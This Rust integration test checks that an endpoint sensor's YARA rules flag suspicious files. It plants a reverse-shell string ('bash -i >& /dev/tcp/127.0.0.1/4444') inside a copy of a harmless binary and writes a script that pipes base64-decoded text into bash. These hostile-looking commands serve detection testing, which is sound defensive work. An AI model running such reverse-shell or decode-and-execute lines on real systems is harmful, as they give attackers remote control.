//! YARA in the real sensor, at a real collector: a file written into a
//! watched directory with a default-pack string alerts (a benign one does
//! not); an executable carrying a reverse-shell command alerts on its first
//! run and is not scanned again on its second (a hash-cache hit).

use std::{path::Path, time::Duration};

use proto::telemetry::v1::{AlertEngine, AlertEvent, EventKind};
use tests::{Collector, Sensor, SensorOptions, Subscription, exe, marker};

/// The YARA alerts about `subject`.
fn yara_alerts<'a>(sub: &'a Subscription, subject: &str) -> Vec<&'a AlertEvent> {
    sub.alerts_on(subject)
        .into_iter()
        .filter(|a| a.engine() == AlertEngine::Yara)
        .collect()
}

fn sha256_hex(path: &Path) -> anyhow::Result<String> {
    tests::exe::sha256_of(path)
}

/// Runs `program`, returns its pid after it exited successfully.
fn run(program: &Path) -> anyhow::Result<u32> {
    let mut child = std::process::Command::new(program).spawn()?;
    let pid = child.id();
    let status = child.wait()?;
    anyhow::ensure!(status.success(), "{}: {status}", program.display());
    Ok(pid)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn written_files_and_new_executables_are_scanned_once() -> anyhow::Result<()> {
    let watched = tempfile::tempdir()?;
    let bin_dir = tempfile::tempdir()?;
    let collector = Collector::start().await?;
    let mut sub =
        Subscription::open_kinds(&collector.url(), &[EventKind::Exec, EventKind::Alert]).await?;
    let options = SensorOptions::with_extra(&format!(
        "[files]\nrefresh_seconds = 0\n[[files.watch]]\npath = \"{}\"\n\
         [detection.yara]\nsettle_ms = 100\n",
        watched.path().display()
    ));
    let sensor = Sensor::start(&collector, options).await?;

    // An ELF (a copy of true) carrying a reverse-shell command; the marker
    // makes it a file no run of this test has hashed before.
    let implant = bin_dir.path().join("implant");
    let mut content = std::fs::read("/usr/bin/true")?;
    content.extend_from_slice(b"\0bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\0");
    content.extend_from_slice(marker("yara").as_bytes());
    exe::write_executable(&implant, &content)?;
    let implant_path = implant.to_str().expect("utf-8 path").to_owned();
    let first = run(&implant)?;
    sub.until(Duration::from_secs(20), |s| {
        !yara_alerts(s, &implant_path).is_empty()
    })
    .await?;

    // The second run hits the hash cache: no second scan. Then two files
    // written in the watched directory, the benign one first: scans run
    // in order (executables at once, written files after they settle), so
    // once the script's alert is here, a second scan of the implant or of
    // the benign file would have alerted before it.
    let second = run(&implant)?;
    let benign = watched.path().join("notes.txt");
    std::fs::write(&benign, b"restore: base64 -d backup.b64 > backup.tar\n")?;
    let script = watched.path().join("update.sh");
    std::fs::write(&script, b"#!/bin/sh\necho aWQK | base64 -d | bash\n")?;
    let script_path = script.to_str().expect("utf-8 path").to_owned();
    sub.until(Duration::from_secs(20), |s| {
        !yara_alerts(s, &script_path).is_empty()
    })
    .await?;

    let on_implant = yara_alerts(&sub, &implant_path);
    assert_eq!(on_implant.len(), 1, "scanned once: {on_implant:?}");
    let a = on_implant[0];
    assert_eq!(a.rule_id, "elf_reverse_shell:elf_reverse_shell_string");
    assert_eq!(a.rule_source, "builtin:elf_reverse_shell.yar");
    assert_eq!(a.level, "critical");
    assert_eq!(a.attack_ids, ["T1059.004", "T1095"]);
    assert_eq!(a.matched_kind(), EventKind::Exec);
    assert_eq!(a.file_sha256, sha256_hex(&implant)?);
    assert_eq!(a.process.as_ref().map(|p| p.pid), Some(first));
    assert_ne!(first, second);

    let on_script = yara_alerts(&sub, &script_path);
    assert_eq!(on_script.len(), 1, "{on_script:?}");
    let s = on_script[0];
    assert_eq!(s.rule_id, "script_base64_shell:script_base64_into_shell");
    assert_eq!(s.matched_kind(), EventKind::File);
    assert_eq!(s.file_sha256, sha256_hex(&script)?);
    assert_eq!(
        s.process.as_ref().map(|p| p.pid),
        Some(std::process::id()),
        "the writer"
    );
    assert!(
        yara_alerts(&sub, benign.to_str().expect("utf-8 path")).is_empty(),
        "the benign file did not alert"
    );

    let status = sensor.stop().await?;
    assert!(status.success(), "sensor exit status: {status}");
    drop(collector);
    Ok(())
}
